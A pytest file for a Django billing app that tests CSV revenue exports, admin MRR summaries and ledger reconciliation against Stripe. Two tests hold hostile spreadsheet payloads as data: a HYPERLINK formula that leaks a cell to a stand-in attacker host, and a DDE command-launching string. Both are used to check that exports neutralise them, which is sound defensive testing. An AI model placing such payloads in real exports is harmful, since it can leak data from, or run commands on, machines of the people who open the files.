"""Finance: the CSV of a period totals what Stripe took; MRR and revenue by service in admin;
``billing_reconcile`` finds a difference planted in the ledger."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.core.management import CommandError, call_command

from billing import services
from billing.milestones import acceptance_milestone, mvp_milestones
from billing.models import Charge
from projects.models import Service
from tests.billing.billing_world import accepted_project, card_add, stripe_charges
from tests.world import World

pytestmark = pytest.mark.django_db(transaction=True)


def _activity(world: World) -> None:
    """Two tenants: an MVP paid in full with a partial refund, an assessment, a subscription."""
    for slug in ("alpha", "beta"):
        card_add(world.customers[slug])
    mvp = accepted_project("alpha", world.users["alpha_owner"])
    paid = [
        services.milestone_charge(
            customer=world.customers["alpha"], project_id=mvp.pk, project_name=mvp.name, service="mvp", milestone=m
        )
        for m in mvp_milestones(7_500_000)
    ]
    services.refund_partial(charge=paid[1], amount_cents=12_345, reason="late", user=None)
    legacy = accepted_project("beta", world.users["beta_owner"], service=Service.MODERNIZATION, price_cents=6_000_000)
    milestone = acceptance_milestone(service="modernization", price_cents=6_000_000)
    assert milestone is not None
    services.milestone_charge(
        customer=world.customers["beta"],
        project_id=legacy.pk,
        project_name=legacy.name,
        service="modernization",
        milestone=milestone,
    )
    augmentation = accepted_project("beta", world.users["beta_owner"], service=Service.AUGMENTATION)
    services.subscription_start(
        customer=world.customers["beta"], project_id=augmentation.pk, project_name=augmentation.name
    )


def test_the_csv_of_a_period_totals_what_stripe_took(world: World, stripe_emulator: str) -> None:
    _activity(world)
    today = date.today().isoformat()

    response = world.client("staff").get("/admin/billing/charge/export/", {"start": today, "end": today})

    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    lines, total = rows[:-1], rows[-1]
    assert total["date"] == "TOTAL"
    stripe_net = sum(c.amount - c.amount_refunded for c in stripe_charges())
    assert stripe_net == 7_500_000 - 12_345 + 6_000_000 + 7_500_000
    assert round(sum(float(r["amount_usd"]) for r in lines) * 100) == stripe_net
    assert round(float(total["amount_usd"]) * 100) == stripe_net
    assert {r["tenant"] for r in lines} == {"Alpha Industries", "Beta Logistics"}
    assert sum(1 for r in lines if r["entry"].startswith("refund")) == 1


def test_admin_shows_mrr_and_revenue_by_service(world: World, stripe_emulator: str) -> None:
    _activity(world)
    response = world.client("staff").get("/admin/billing/charge/summary/")
    content = response.content.decode()
    assert response.status_code == 200
    assert "$75,000" in content  # MRR: one continuous augmentation
    assert "$74,876.55" in content  # MVP net of the refund
    assert "$60,000" in content and "$75,000" in content
    assert world.client("staff").get("/admin/billing/charge/?status__exact=succeeded").status_code == 200


def test_reconciliation_finds_a_difference_planted_in_the_ledger(world: World, stripe_emulator: str) -> None:
    _activity(world)
    out = io.StringIO()
    call_command("billing_reconcile", stdout=out)
    assert "matches Stripe" in out.getvalue()

    planted = Charge.objects.filter(milestone="mvp-deposit").get()
    Charge.objects.filter(pk=planted.pk).update(amount_cents=planted.amount_cents + 100)
    missing = Charge.objects.filter(milestone="assessment").get()
    Charge.objects.filter(pk=missing.pk).delete()

    out = io.StringIO()
    with pytest.raises(CommandError, match="2 difference"):
        call_command("billing_reconcile", stdout=out)
    report = out.getvalue()
    assert f"ledger #{planted.pk}" in report and "amount: ledger $37,501, Stripe $37,500" in report
    assert "Stripe took $60,000 that the ledger does not record" in report


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_text_never_starts_a_cell_with_a_formula_character(start: str) -> None:
    from tenants.spreadsheet import spreadsheet_text

    assert spreadsheet_text(f'{start}HYPERLINK("http://evil.example","x")').startswith("'")
    assert spreadsheet_text("Alpha Industries") == "Alpha Industries"


def test_the_csv_neutralises_formulas_in_customer_text(world: World, stripe_emulator: str) -> None:
    card_add(world.customers["alpha"])
    customer = world.customers["alpha"]
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
    original = customer.name
    try:
        type(customer).objects.filter(pk=customer.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
        customer.refresh_from_db()
        services.milestone_charge(
            customer=customer,
            project_id=1,
            project_name=hostile,
            service="mvp",
            milestone=mvp_milestones(7_500_000)[0],
        )
        today = date.today().isoformat()
        response = world.client("staff").get("/admin/billing/charge/export/", {"start": today, "end": today})
    finally:
        type(customer).objects.filter(pk=customer.pk).update(name=original)

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    charge_row = next(row for row in rows[1:] if row[0] != "TOTAL")
    for cell in charge_row:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not cell.replace("-", "", 1).replace(".", "", 1).isdigit()), cell
    named = dict(zip(rows[0], charge_row, strict=True))
    assert named["project"] == "'" + hostile and named["tenant"].startswith("'@SUM")
    assert named["amount_usd"] == "37500.00" and named["currency"] == "usd"


def test_the_revenue_summary_shows_dollars_and_service_names_for_the_period_in_its_heading(
    world: World, stripe_emulator: str
) -> None:
    _activity(world)
    staff = world.client("staff")

    content = staff.get("/admin/billing/charge/summary/").content.decode()
    today = date.today()
    assert f"Revenue by service, {today.replace(day=1).isoformat()} – {today.isoformat()}" in content
    assert f'value="{today.replace(day=1).isoformat()}"' in content and f'value="{today.isoformat()}"' in content
    assert "MVP development" in content and "Legacy modernization" in content
    mvp_row = content.split('data-testid="revenue-mvp">', 1)[1].split("</tr>", 1)[0]
    assert mvp_row == "<td>MVP development</td><td>$75,000</td><td>$123.45</td><td>$74,876.55</td>"
    assert "7500000" not in content and ">12345<" not in content

    chosen = staff.get("/admin/billing/charge/summary/", {"start": "2026-01-01", "end": "2026-01-31"})
    assert "Revenue by service, 2026-01-01 – 2026-01-31" in chosen.content.decode()
